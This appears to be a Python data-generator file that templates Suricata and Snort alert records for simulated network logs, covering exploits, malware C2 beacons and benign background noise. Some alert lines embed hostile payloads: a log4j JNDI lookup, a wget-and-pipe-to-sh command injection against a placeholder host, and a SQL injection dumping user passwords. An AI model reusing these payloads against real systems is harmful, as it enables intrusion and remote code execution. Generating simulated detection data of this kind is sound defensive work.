"""Alerts of Suricata and Snort: break-ins with what came of them, malware that calls home, and what rings every day."""

from generator.families.network.product_story import catalogue_in_parts
from generator.families.sensors.alert_forms import FORMS

catalogue_in_parts("sensors/exploit-alerts", FORMS, r"""
RX+@T1190,T1059.004 bad TCP {lan}:<<80|443|8080>> {wan} | GPL ATTACK_RESPONSE id check returned root | payload_printable=uid=0(root) gid=0(root) groups=0(root)
RX admin TCP {wan} {lan}:<<80|8080>> | ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228) | http.hostname={wan2} ; http.url=/?x=${jndi:ldap://{wan}:1389/{word}} ; http.http_method=GET ; http.status=200
RX web TCP {wan} {lan}:443 | ET WEB_SPECIFIC_APPS <<Atlassian Confluence RCE (CVE-2023-22527)|Ivanti Connect Secure Command Injection (CVE-2024-21887)|Citrix ADC Path Traversal (CVE-2019-19781)|F5 TMUI RCE (CVE-2020-5902)>> M1 | http.url=/template/aui/text-inline.vm ; http.http_method=POST ; http.status=200 ; http.length={big}
WS@T1505.003 web TCP {wan} {lan}:80 | ET WEB_SERVER <<PHP WSO Webshell Access|China Chopper Webshell POST Command|ASPXSpy Related Cookie|JSP Godzilla Webshell>> | http.url=/uploads/{word}.<<php|jsp|aspx>> ; http.http_method=POST ; http.status=200
WS bad TCP {lan}:80 {wan} | ET ATTACK_RESPONSE Output of <<id|whoami|net user|ipconfig>> command from HTTP server | http.url=/images/{word}.php?c=id ; http.status=200
IX admin TCP {lan} {lan2}:445 | ET EXPLOIT <<Possible ETERNALBLUE Probe MS17-010 (MSF style)|ETERNALBLUE MS17-010 Echo Response|SMBGhost (CVE-2020-0796) Exploit Attempt>> | smb.command=SMB1_COMMAND_TRANS2
LM@T1021.002,T1569.002 bad TCP {lan} {lan2}:445 | ET RPC DCERPC SVCCTL - Remote Service Control Manager Access | smb.filename=svcctl ; smb.command=SMB2_COMMAND_WRITE
+ bad TCP {lan} {lan2}:445 | ET POLICY SMB Executable File Transfer | smb.filename={word}.exe ; smb.share=\\\\{host}\\ADMIN$
KD@T1003.006 admin TCP {lan} {lan2}:135 | ET ATTACK_RESPONSE Possible DCSync (DRSGetNCChanges) from non Domain Controller | dcerpc.interface=e3514235-4b06-11d1-ab04-00c04fc2dcd2
SQ web TCP {wan} {lan}:80 | ET WEB_SERVER SELECT USER SQL Injection Attempt in URI | http.url=/shop.php?id=-1+UNION+SELECT+user,password+FROM+wp_users ; http.status=200 ; http.length={big}
CI web TCP {wan} {lan}:80 | ET EXPLOIT <<D-Link DSL-2750B OS Command Injection|Zyxel CVE-2022-30525 Command Injection|TP-Link Archer CVE-2023-1389>> | http.url=/cgi-bin/;wget+http://{wan}/{word}.sh+-O-|sh ; http.status=200
RE recon TCP {wan} {lan}:<<80|443>> | ET SCAN <<Nikto Web App Scan in Progress|Sqlmap SQL Injection Scan|Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)|DirBuster Web App Scan in Progress>> | http.http_user_agent=Mozilla/5.00 (Nikto/2.1.6) ; http.url=/cgi-bin/{word} ; http.status=404
SB# recon TCP {wan} {lan}:22 | ET SCAN Potential SSH Scan | ssh.client.software_version=libssh_0.9.6
BF# recon TCP {wan} {lan}:3389 | ET SCAN Behavioral Unusually fast Terminal Server Traffic Potential Scan or Infection (Inbound)
PO# scan TCP {lan} 10.0.{n}.{n2}:445 | ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection
DO dos UDP {wan}:123 {lan}:{port} | ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Response
""", r"""
BN attack TCP {noise} {wan2}:<<22|80|443|3389>> | ET <<DROP Dshield Block Listed Source group 1|CINS Active Threat Intelligence Poor Reputation IP group {n}|COMPROMISED Known Compromised or Hostile Host Traffic group {n}|DROP Spamhaus DROP Listed Traffic Inbound group {n}|3CORESec Poor Reputation IP group {n}>> | action=<<blocked|allowed>>
BN recon TCP {noise} {wan2}:<<1433|3306|5432|5900|445>> | ET SCAN Suspicious inbound to <<MSSQL port 1433|mySQL port 3306|PostgreSQL port 5432>> | action=<<blocked|allowed>>
BN recon UDP {noise} {wan2}:5060 | ET SCAN Sipvicious User-Agent Detected (friendly-scanner) | action=blocked
BN attack TCP {noise} {lan}:443 | ET SCAN <<Zmap User-Agent (Inbound)|NMAP OS Detection Probe|Censys Scanner|Shodan Scan Seen>> | http.url=/ ; http.status=301 ; action=blocked
BN proto TCP {any} {any2}:<<443|80|25>> | SURICATA <<STREAM ESTABLISHED packet out of window|STREAM Packet with invalid ack|STREAM excessive retransmissions|TCPv4 invalid checksum|Applayer Mismatch protocol both directions|HTTP unable to match response to request|TLS invalid record/traffic|STREAM 3way handshake wrong seq wrong ack>>
BN misc ICMP {any} {lan} | GPL ICMP <<PING *NIX|Echo Reply undefined code|Destination Unreachable Port Unreachable>>
BN proto TCP {any} {lan}:<<25|587|993>> | SURICATA SMTP <<invalid reply|no server welcome message|tls rejected>>
MO misc UDP {lan} {lan2}:161 | GPL SNMP public access udp
MO recon TCP {lan} {lan2}:<<22|443|80>> | ET SCAN <<Potential SSH Scan OUTBOUND|Behavioral Unusual Port 135 traffic Potential Scan or Infection>> | host={host}
SC web TCP {lan} {lan2}:443 | ET SCAN <<Nessus FTP Scan detected|OpenVAS User-Agent Inbound|Tenable Nessus User-Agent|Qualys WAS Scanner>> | http.http_user_agent=Nessus SOAP ; http.url=/robots.txt ; http.status=404
UP misc TCP {lan} {wan}:80 | ET INFO <<Windows OS Submitting USB Metadata to Microsoft|Microsoft Connection Test|GNU/Linux APT User-Agent Outbound likely related to package management|Windows Update P2P Activity>> | http.hostname={site} ; http.http_user_agent=<<Debian APT-HTTP/1.3|Microsoft NCSI|Windows-Update-Agent>> ; http.status=200
NS bad TCP {lan} {lan2}:445 | ET POLICY <<SMB2 NT Create AndX Request For an Executable File|SMB Executable File Transfer>> | smb.filename=<<setup.exe|netlogon\\logon.bat|ccmsetup.exe>> ; smb.share=\\\\{host}\\<<NETLOGON|Install|SYSVOL>>
NS bad TCP {lan} {lan2}:135 | ET RPC DCERPC SVCCTL - Remote Service Control Manager Access | host={host} ; smb.filename=svcctl
AE unknown TCP {lan}:80 {lan2} | ET INFO <<Outgoing Basic Auth Base64 HTTP Password detected unencrypted|Python SimpleHTTP ServerBanner|Executable Download from dotted-quad Host>> | http.hostname={lan} ; http.url=/<<firmware.bin|printer/status|agent/setup.exe>> ; http.status=200
""")

catalogue_in_parts("sensors/malware-alerts", FORMS, r"""
C2 c2 TCP {lan} {wan}:<<80|443|8080|8443>> | ET MALWARE <<Cobalt Strike Beacon Observed|Cobalt Strike Malleable C2 Profile (__session__id Cookie)|Win32/Lumma Stealer CnC Activity|Observed Qbot Variant SSL Certificate|Remcos RAT Checkin|AsyncRAT Style SSL Cert|NanoCore RAT Keep-Alive Beacon (Inbound)|Sliver HTTP Beacon>> | http.hostname={dga} ; http.url=/<<submit.php?id={id}|jquery-3.3.1.min.js|c2sock|{word}/{word}>> ; http.http_method=POST ; http.status=200
C2@T1071.004 trojan UDP {lan} {lan2}:53 | ET MALWARE <<DNS Query to Cobalt Strike Domain|Observed DNS Query to Gamaredon Domain ({dga})|Suspected SocGholish Domain in DNS Lookup ({dga})|Pegasus Domain in DNS Lookup>> | dns.type=query ; dns.rrname={dga} ; dns.rrtype=A
C2@T1102 c2 TCP {lan} {wan}:443 | ET MALWARE <<Observed Malicious SSL Cert (AsyncRAT)|Win32/Vidar Variant Stealer CnC Domain (Telegram)|Observed Discord Based Stealer Exfil>> | tls.sni={dga} ; tls.subject=CN={word} ; tls.issuerdn=CN={word}
DT bad UDP {lan} {lan2}:53 | ET MALWARE <<Possible Iodine DNS Tunnel|DNSCat2 DNS Tunnel|Large TXT Query Likely DNS Tunnelling>> | dns.rrname={long}{hex}.{dga} ; dns.rrtype=<<TXT|NULL|CNAME>>
MW trojan TCP {wan}:80 {lan} | ET MALWARE <<Likely Evil EXE download from MSXMLHTTP non-exe extension M2|Emotet Payload Download|Single char EXE direct download likely trojan|PE EXE or DLL Windows file download HTTP from dotted-quad, entropy packed>> | http.hostname={wan} ; http.url=/{word}.<<png|dat|exe>> ; http.http_content_type=application/x-dosexec ; http.status=200
SS exec TCP {wan}:80 {lan} | ET ATTACK_RESPONSE PowerShell <<Base64 Encoded Content Command Common In Powershell Stagers M1|NoProfile Command Received In Powershell Stagers|DownloadString with IEX in HTTP Response>> | http.hostname={dga} ; http.url=/{word}.ps1 ; http.status=200
CM mining TCP {lan} {wan}:<<3333|14444|8080>> | ET COINMINER <<Cryptocurrency Miner Checkin|Observed DNS Query to Cryptocurrency Mining Pool Domain|W32/BitCoinMiner.MultiThreat Subscribe/Authorize Stratum Protocol Message>> | payload_printable={"id":1,"method":"login","params":{"agent":"XMRig/6.21"}}
EX@T1048 leak TCP {lan} {wan}:<<21|443|587>> | ET MALWARE <<AgentTesla Exfil Via SMTP|AgentTesla Exfil via FTP|StealC Exfil (POST)|Rclone User-Agent to Mega with bulk upload>> | http.length={huge} ; http.hostname={dga}
PH cred TCP {lan} {wan}:443 | ET PHISHING <<Successful Office 365 Phish|Successful Generic Credential Phish|Possible Tycoon2FA Landing Page, POST of Credentials>> | tls.sni={dga} ; http.http_method=POST ; http.url=/common/login
C2@T1219 c2 TCP {lan} {wan}:443 | ET REMOTE_ACCESS <<NetSupport Remote Admin Checkin from ProgramData Client|Remote Utilities Checkin by renamed binary>> | http.http_user_agent=NetSupport Manager/1.3 ; http.url=/fakeurl.htm
RW trojan TCP {lan} {wan}:80 | ET MALWARE <<Ransomware CnC Domain (LockBit)|Ransomware Payment Site (onion gateway) from host|Win32/Filecoder Key Exchange>> | http.hostname={dga}
""", r"""
NS misc UDP {lan} {lan2}:53 | ET <<INFO Observed DNS Query to .cloud TLD|DNS Query for .to TLD|INFO DYNAMIC_DNS Query to a *.duckdns.org Domain|INFO Observed DNS over HTTPS Domain in DNS Lookup|INFO DNS Query for Suspicious .ml Domain|HUNTING Suspicious TLD in DNS Lookup>> | dns.type=query ; dns.rrname={ext} ; dns.rrtype=A
NS misc TCP {lan} {wan}:443 | ET INFO <<Observed Discord Domain in TLS SNI|Observed Cloudflare DNS over HTTPS Domain|Session Traversal Utilities for NAT (STUN Binding Request)|TLS Handshake Failure|Observed Telegram API Domain|Observed ZeroSSL SSL/TLS Certificate>> | tls.sni={site} ; tls.version=TLS 1.3
BN policy TCP {lan} {noise}:443 | ET POLICY <<Dropbox.com Offsite File Backup in Use|TeamViewer Keep-alive outbound|Cloudflare WARP Client|Spotify P2P Client|Observed IP Lookup Domain (ipify.org)|Signed TLS Certificate with md5WithRSAEncryption|HTTP traffic on port 443 (POST)|curl User-Agent Outbound>> | tls.sni={site}
BN policy TCP {lan} {noise}:6881 | ET P2P <<BitTorrent peer sync|BitTorrent DHT ping request|Vuze BT UDP Connection>>
BN policy TCP {lan} {noise}:443 | ET GAMES <<MINECRAFT Server response outbound|Blizzard Downloader Client User-Agent>> | tls.sni={site}
AE misc TCP {wan}:80 {lan} | ET INFO <<EXE - Served Attached HTTP|Packed Executable Download|PE EXE or DLL Windows file download HTTP|EXE CheckRemoteDebuggerPresent (Used in Malware Anti-Debugging)>> | http.hostname={site} ; http.url=/<<setup.exe|TeamViewer_Setup.exe|driver_{n}.exe>> ; http.http_content_type=application/octet-stream ; http.status=200
AE misc TCP {lan} {wan}:80 | ET INFO <<PowerShell User-Agent in HTTP Request|Generic HTTP EXE Upload Outbound|Possible Chrome Plugin install|JAVA - Java Archive Download>> | http.http_user_agent=Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1 ; http.hostname={site} ; http.url=/api/v2/package/{word} ; http.status=200
NS misc TCP {lan} {wan}:443 | ET REMOTE_ACCESS <<TeamViewer Remote Access Tool Activity|AnyDesk Domain in DNS Lookup|Splashtop Domain in TLS SNI|ScreenConnect Relay Connection>> | tls.sni={site}
BN misc TCP {lan} {noise}:<<80|443>> | ET <<ADWARE_PUP Observed SmartBar Domain|ADWARE_PUP Win32/Conduit Toolbar User-Agent|MOBILE_MALWARE Android Device Connectivity Check|USER_AGENTS Go HTTP Client User-Agent>> | http.hostname={site} ; http.status=204 ; action=<<allowed|blocked>>
BN trojan UDP {lan2} {lan}:53 | ET <<MALWARE DNS Reply Sinkhole - Microsoft - 131.253.18.11-12|TROJAN DNS Reply for unallocated address space - Potentially Malicious 1.1.1.0/24>> | dns.type=answer ; dns.rrname={ext} ; dns.rcode=NOERROR ; host=<<mail-gw|spamfilter|{host}>>
NS unknown TCP {any} {lan}:443 | ET JA3 Hash - <<Possible Malware - Various Malspam/RigEK|[Abuse.ch] Possible Adware>> | tls.sni={site} ; tls.ja3.hash={long}
NS policy TCP {lan} {wan}:<<21|80>> | ET <<POLICY FTP Login Successful (non-anonymous)|INFO Cleartext WordPress Login|POLICY Http Client Body contains pass= in cleartext>> | http.hostname={site} ; http.url=/wp-login.php ; http.status=302
""")
